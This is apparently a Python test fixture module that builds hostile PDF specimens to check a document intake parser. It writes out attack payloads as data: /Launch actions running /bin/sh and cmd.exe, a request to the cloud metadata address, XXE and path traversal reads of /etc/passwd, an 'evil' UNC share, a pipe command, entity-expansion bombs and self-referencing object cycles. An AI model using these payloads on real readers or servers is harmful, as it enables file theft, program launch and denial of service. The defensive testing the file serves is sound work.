"""PDF files that ask their reader to run, fetch, open or follow something."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.hostile.pdf_pages import FORM, catalogue, image
from tests.hostile.specimen import ANY, Hostile
from tests.unit.intake import papers


def files() -> Iterator[Hostile]:
    """All of them."""
    yield from _actions()


def _actions() -> Iterator[Hostile]:
    actions = {
        "JavaScript": b"<< /S /JavaScript /JS (while(1){app.alert(1)}) >>",
        "launch a program": b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "open an address": b"<< /S /URI /URI (http://169.254.169.254/latest/meta-data/) >>",
        "open another file": b"<< /S /GoToR /F (../../../../etc/passwd) /D [0 /Fit] >>",
        "send the form": b"<< /S /SubmitForm /F (http://127.0.0.1:9/) >>",
        "read data in": b"<< /S /ImportData /F (\\\\\\\\evil\\\\share\\\\x.fdf) >>",
        "itself for ever": b"<< /S /JavaScript /JS () /Next 4 0 R >>",
    }
    for name, action in actions.items():
        yield Hostile(f"pdf/bait/{name}", partial(catalogue, b"/OpenAction 4 0 R", o4=action), ANY)
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]><x>&z;</x>' % b"".join(
        b'<!ENTITY %c "%s">' % (letter, b"&%c;" % (letter - 1) * 10) for letter in range(ord("b"), ord("z") + 1)
    )
    entity = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
    more = {
        "a form in XML that grows": (b"/AcroForm << /XFA 4 0 R /Fields [] >>", papers.stream(xml)),
        "a form in XML that fetches": (b"/AcroForm << /XFA 4 0 R /Fields [] >>", papers.stream(entity)),
        "metadata that grow": (b"/Metadata 4 0 R", papers.stream(xml, b"/Type /Metadata /Subtype /XML")),
        "form fields that hold each other": (
            b"/AcroForm << /Fields [4 0 R] >>",
            b"<< /Kids [4 0 R] /Parent 4 0 R /FT /Tx >>",
        ),
        "an outline without end": (
            b"/Outlines 4 0 R",
            b"<< /First 4 0 R /Next 4 0 R /Last 4 0 R /Count 9 /Title (x) >>",
        ),
        "names that hold themselves": (
            b"/Names << /Dests 4 0 R /JavaScript 4 0 R >>",
            b"<< /Kids [4 0 R] /Limits [(a) (z)] >>",
        ),
        "a structure that holds itself": (
            b"/StructTreeRoot 4 0 R /MarkInfo << /Marked true >>",
            b"<< /Type /StructTreeRoot /K [4 0 R] >>",
        ),
        "page labels that hold themselves": (b"/PageLabels 4 0 R", b"<< /Kids [4 0 R] >>"),
        "layers that hold each other": (
            b"/OCProperties << /OCGs [4 0 R] /D << /Order [4 0 R] >> >>",
            b"<< /Type /OCG /Usage 4 0 R >>",
        ),
        "a collection of files": (
            b"/Collection << /View /H >> /Names << /EmbeddedFiles 4 0 R >>",
            b"<< /Names [(x) << /F (a.exe) /EF << /F 3 0 R >> >>] >>",
        ),
    }
    for name, (key, value) in more.items():
        yield Hostile(f"pdf/bait/{name}", partial(catalogue, key, o4=value), ANY)
    places = {
        "a file": b"(/etc/passwd)",
        "an address": b"<< /FS /URL /F (http://127.0.0.1:9/x) >>",
        "a share": b"(\\\\\\\\evil\\\\c$\\\\x)",
        "a device": b"(/dev/zero)",
        "a pipe": b"(%pipe%cat /etc/passwd)",
    }
    for name, place in places.items():
        external = papers.page_of({4: b"<< /Length 0 /F %s /FFilter /FlateDecode >>\nstream\n\nendstream" % place})
        yield Hostile(f"pdf/bait/content that lies in {name}", lambda data=external: data, ANY)
        yield Hostile(
            f"pdf/bait/picture that lies in {name}",
            partial(image, b"/Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F %s" % place, b""),
            ANY,
        )
    annotations = {
        "100,000 notes": b"[%s]" % (b"4 0 R " * 100_000),
        "notes that are the page": b"[3 0 R]",
        "notes that are a number": b"7",
    }
    note = b"<< /Type /Annot /Subtype /Widget /Rect [0 0 99 99] /AP << /N 5 0 R >> /Parent 4 0 R /FT /Tx /V (x) >>"
    drawn = papers.stream(b"/X Do", FORM + b"/Resources << /XObject << /X 5 0 R >> >>")
    for name, value in annotations.items():
        yield Hostile(
            f"pdf/notes/{name}",
            partial(
                papers.raw_pdf,
                {
                    1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /NeedAppearances true >> >>",
                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots %s >>" % value,
                    4: note,
                    5: drawn,
                },
            ),
            ANY,
        )
